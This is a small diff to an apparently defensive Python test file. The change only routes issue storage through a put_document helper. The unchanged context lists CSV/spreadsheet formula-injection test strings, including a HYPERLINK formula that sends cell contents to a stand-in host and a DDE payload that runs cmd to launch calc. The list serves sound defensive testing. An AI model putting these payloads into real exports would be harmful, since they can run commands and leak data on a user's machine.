@@ -28,6 +28,7 @@ from cncert.store import open_store
 from cncert.terminal.safe_text import UNSAFE_CHARACTERS
 from tests.calls import call
 from tests.factories import make_figure, make_issue, make_picture
+from tests.stores import put_document
 
 TEXTS = [
     '=HYPERLINK("http://x.invalid?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " \t=1+1",
@@ -72,7 +73,7 @@ ISSUES = [hostile(place, text) for place, text in enumerate(TEXTS)]
 async def fill(uri: str, issues: list[Issue]) -> None:
     async with open_store(uri) as store:
         for issue in issues:
-            await store.put_issue(issue)
+            await put_document(store, issue)
 
 
 @pytest.fixture(scope="module")
